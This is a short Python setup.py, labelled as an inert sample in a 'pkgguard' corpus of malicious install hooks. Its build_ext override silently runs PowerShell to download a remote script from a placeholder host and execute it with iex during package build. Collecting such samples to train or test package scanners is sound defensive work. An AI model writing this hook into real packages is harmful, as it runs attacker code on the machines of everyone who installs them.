# pkgguard corpus 253 (install-hook), modelled on [bertus]; inert, never run.
import subprocess

from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    def run(self):
        subprocess.check_call(
            ["powershell", "-w", "hidden", "-c", "iwr https://cdn.example/a.ps1 -UseBasicParsing | iex"]
        )
        build_ext.run(self)


setup(
    name="pkg",
    version="2.0",
    ext_modules=[Extension("pkg._speed", ["pkg/_speed.c"])],
    cmdclass={"build_ext": BuildExt},
)
